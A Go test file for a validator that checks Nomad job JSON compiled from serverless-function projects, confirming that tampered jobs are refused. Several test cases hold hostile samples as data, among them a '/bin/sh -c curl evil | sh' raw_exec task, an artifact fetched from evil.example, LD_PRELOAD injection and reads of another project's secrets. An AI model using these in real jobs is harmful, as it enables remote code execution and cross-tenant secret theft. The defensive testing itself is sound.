package jobs_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/butterfn/butter/jobs"
	"github.com/hashicorp/nomad/api"
)

// compiled compiles a project directory and returns its job JSON (as
// `butter deploy` posts it) and what the control plane knows apart from
// the job.
func compiled(t *testing.T, dir string) ([]byte, jobs.Expect) {
	t.Helper()
	c, err := jobs.Compile(load(t, dir), jobs.WithBlobURL("http://10.0.0.7:4750/v1/blobs"), jobs.WithGitSHA("abc123"), jobs.WithDatacenters("dc1"))
	if err != nil {
		t.Fatal(err)
	}
	raw, err := jobs.RenderJSON(c.Job)
	if err != nil {
		t.Fatal(err)
	}
	e := jobs.Expect{Project: c.Job.Meta["butter_project"], Revision: c.Revision, Digests: map[string]bool{}}
	for _, a := range c.Artifacts {
		e.Digests[string(a.Digest)] = true
	}
	return raw, e
}

// secretProject is a project whose function has a secret, a schema and a
// stream trigger: every part of the job that Check looks into.
func secretProject(t *testing.T) string {
	dir := t.TempDir()
	files := map[string]string{
		"shop.fn.hcl": `project "shop" {}
stream "orders" {
  schema = "order.json"
}
stream "paid" {}
function "pay" {
  runtime      = "exec"
  source       = "pay"
  command      = ["cat"]
  output       = stream.paid
  input_schema = "order.json"
  trigger "stream" {
    stream = stream.orders
  }
  secret "API_KEY" {
    vault = "secret/data/butter/shop/psp#key"
  }
}
`,
		"order.json": `{"type": "object"}`,
		"pay/run.sh": "cat\n",
	}
	for name, body := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestCheckAcceptsCompiledJobs: every example, and a project with a
// secret, pass as the compiler makes them.
func TestCheckAcceptsCompiledJobs(t *testing.T) {
	dirs := []string{secretProject(t)}
	for _, ex := range examples {
		dirs = append(dirs, filepath.Join("..", "examples", ex))
	}
	for _, dir := range dirs {
		raw, e := compiled(t, dir)
		job, err := jobs.Check(raw, e)
		if err != nil {
			t.Fatalf("%s: %v", dir, err)
		}
		if *job.ID != "butter-"+e.Project {
			t.Errorf("%s: job %s", dir, *job.ID)
		}
		if len(job.TaskGroups[0].Spreads) != 1 || job.TaskGroups[0].Spreads[0].Attribute != "${node.unique.id}" {
			t.Errorf("%s: group spreads %+v, want one over ${node.unique.id}", dir, job.TaskGroups[0].Spreads)
		}
		// A job compiled before pools spread (no spread) passes too.
		var wrapped struct{ Job *api.Job }
		if err := json.Unmarshal(raw, &wrapped); err != nil {
			t.Fatal(err)
		}
		for _, g := range wrapped.Job.TaskGroups {
			g.Spreads = nil
		}
		b, _ := json.Marshal(wrapped)
		if _, err := jobs.Check(b, e); err != nil {
			t.Errorf("%s without its spread: %v", dir, err)
		}
	}
}

// TestCheckRefusesTampering changes one thing at a time in a compiled
// job; each change is refused with a message naming the field.
func TestCheckRefusesTampering(t *testing.T) {
	raw, e := compiled(t, secretProject(t))
	task := func(j *api.Job) *api.Task { return j.TaskGroups[0].Tasks[0] }
	fn := func(j *api.Job) map[string]any {
		return task(j).Config["function"].([]any)[0].(map[string]any)
	}
	cases := []struct {
		name   string
		tamper func(j *api.Job)
		want   string
	}{
		{"another project's ID", func(j *api.Job) { j.ID = new("butter-bank"); j.Name = new("butter-bank") }, `ID "butter-bank": a revision of project "shop" registers job "butter-shop" only`},
		{"a namespace", func(j *api.Job) { j.Namespace = new("ops") }, `Namespace "ops"`},
		{"another project in meta", func(j *api.Job) { j.Meta["butter_project"] = "bank" }, "Meta.butter_project"},
		{"a raw_exec task", func(j *api.Job) {
			task(j).Driver = "raw_exec"
			task(j).Config = map[string]any{"command": "/bin/sh", "args": []any{"-c", "curl evil | sh"}}
		}, `Driver "raw_exec"`},
		{"a second task", func(j *api.Job) {
			j.TaskGroups[0].Tasks = append(j.TaskGroups[0].Tasks, &api.Task{Name: "x", Driver: "raw_exec"})
		}, "Tasks: want one task"},
		{"a task config of another project", func(j *api.Job) { task(j).Config["project"] = "bank" }, `Config: project "bank"`},
		{"an output into another project", func(j *api.Job) { fn(j)["output"] = "bank.payments" }, `.output "bank.payments": not a topic of project "shop"`},
		{"a consumer group of another project", func(j *api.Job) {
			fn(j)["stream"].([]any)[0].(map[string]any)["group"] = "butter.bank.x.y"
		}, `group "butter.bank.x.y": not a consumer group of project "shop"`},
		{"an unknown task config field", func(j *api.Job) { task(j).Config["privileged"] = true }, "not a pool config"},
		{"an artifact from elsewhere", func(j *api.Job) {
			task(j).Artifacts = append(task(j).Artifacts, &api.TaskArtifact{GetterSource: new("https://evil.example/x.tar"), RelativeDest: new("local/x")})
		}, `GetterSource "https://evil.example/x.tar"`},
		{"an artifact of a blob the revision lacks", func(j *api.Job) {
			task(j).Artifacts[0].GetterSource = new("http://10.0.0.7:4750/v1/blobs/sha256/" + strings.Repeat("ab", 32))
		}, "is not one of the revision's blobs"},
		{"an artifact without its checksum", func(j *api.Job) { delete(task(j).Artifacts[0].GetterOptions, "checksum") }, "GetterOptions: want exactly checksum"},
		{"a template reading another project's secret", func(j *api.Job) {
			tm := task(j).Templates[0]
			tm.EmbeddedTmpl = new(strings.ReplaceAll(*tm.EmbeddedTmpl, "butter/shop/psp", "butter/bank/psp"))
		}, "Templates: want only the secret files"},
		{"another Vault role", func(j *api.Job) { task(j).Vault.Role = "butter-bank" }, `Vault: want role "butter-shop"`},
		{"an environment", func(j *api.Job) { task(j).Env = map[string]string{"LD_PRELOAD": "/tmp/x.so"} }, "Env is set"},
		{"a user", func(j *api.Job) { task(j).User = "root" }, "User is set"},
		{"a host volume", func(j *api.Job) {
			j.TaskGroups[0].Volumes = map[string]*api.VolumeRequest{"root": {Type: "host", Source: "root"}}
		}, "Volumes is set"},
		{"a static port", func(j *api.Job) { j.TaskGroups[0].Networks[0].ReservedPorts = []api.Port{{Label: "ssh", Value: 22}} }, "Networks: want one dynamic port"},
		{"another service", func(j *api.Job) { j.TaskGroups[0].Services[0].Name = "butter-bank-default" }, "Services[0]"},
		{"a spread pinned to a node", func(j *api.Job) {
			j.TaskGroups[0].Spreads = []*api.Spread{{Attribute: "${node.unique.name}", SpreadTarget: []*api.SpreadTarget{{Value: "victim", Percent: 100}}}}
		}, "Spreads: want none or the compiler's"},
		{"a constraint", func(j *api.Job) {
			j.TaskGroups[0].Constraints = []*api.Constraint{{LTarget: "${node.unique.name}", RTarget: "victim", Operand: "="}}
		}, "Constraints[0]: want only the compiler's runtime constraints"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var wrapped struct{ Job *api.Job }
			if err := json.Unmarshal(raw, &wrapped); err != nil {
				t.Fatal(err)
			}
			tc.tamper(wrapped.Job)
			b, err := json.Marshal(wrapped)
			if err != nil {
				t.Fatal(err)
			}
			_, err = jobs.Check(b, e)
			if err == nil {
				t.Fatalf("accepted")
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q, want it to contain %q", err, tc.want)
			}
		})
	}
	// Not JSON of a job at all.
	for _, bad := range []string{`{}`, `[]`, `{"Job": {"ID": "butter-shop", "Bogus": 1}}`} {
		if _, err := jobs.Check([]byte(bad), e); err == nil {
			t.Errorf("%s accepted", bad)
		}
	}
}
